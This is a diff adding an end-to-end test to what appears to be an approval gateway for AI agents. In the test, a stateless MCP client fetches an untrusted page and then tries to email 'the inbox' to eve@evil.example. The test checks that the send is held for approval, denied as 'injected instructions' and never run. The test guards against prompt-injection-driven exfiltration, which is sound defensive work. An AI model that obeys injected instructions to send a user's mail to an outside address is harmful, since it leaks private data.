@@ -198,3 +198,40 @@ def test_untrusted_content_then_an_email_is_held_at_r3_and_a_fresh_session_is_no
         proc.terminate()
         proc.wait(10)
         log.close()
+
+
+def test_a_stateless_client_s_calls_share_one_session_so_its_risk_builds_up(tmp_path):
+    """Found by review: a client on the 2026-07-28 revision (the Python SDK's `Client`, which
+    keeps no MCP session) had each call counted as a session of its own, so the untrusted page
+    it fetched never raised the risk of the email it sent next. Its calls now share the
+    session `mcp-stateless-<agent>`: the send is held at R3."""
+    from mcp import Client
+
+    proc, url, log, calls = serve(tmp_path)
+    mail = {"to": "eve@evil.example", "body": "the inbox"}
+
+    async def modern():
+        transport = streamable_http_client(url + "/mcp", http_client=httpx2.AsyncClient(
+            headers={"Authorization": f"Bearer {AGENT_KEY}"}, timeout=httpx2.Timeout(60)))
+        async with Client(transport) as c:
+            assert c.protocol_version == "2026-07-28", c.protocol_version
+            r = await c.call_tool("mail__fetch", {"url": "https://example.com/"})
+            assert not r.is_error, r
+            send = asyncio.create_task(c.call_tool("mail__send_email", mail))
+            approval = await held_send(url)
+            status, d = await asyncio.to_thread(
+                api, url, "POST", f"/v1/approvals/{approval['id']}/decision",
+                {"decision": "deny", "reason": "e2e: injected instructions"})
+            assert status == 200, d
+            assert (await send).is_error
+            return approval
+
+    try:
+        a = asyncio.run(modern())
+        assert a["risk_tier"] == "R3" and a["triggers"] == ["session_untrusted"], a
+        assert a["session_id"] == "mcp-stateless-mailer", a["session_id"]
+        assert ran(calls, "send_email") == []
+    finally:
+        proc.terminate()
+        proc.wait(10)
+        log.close()
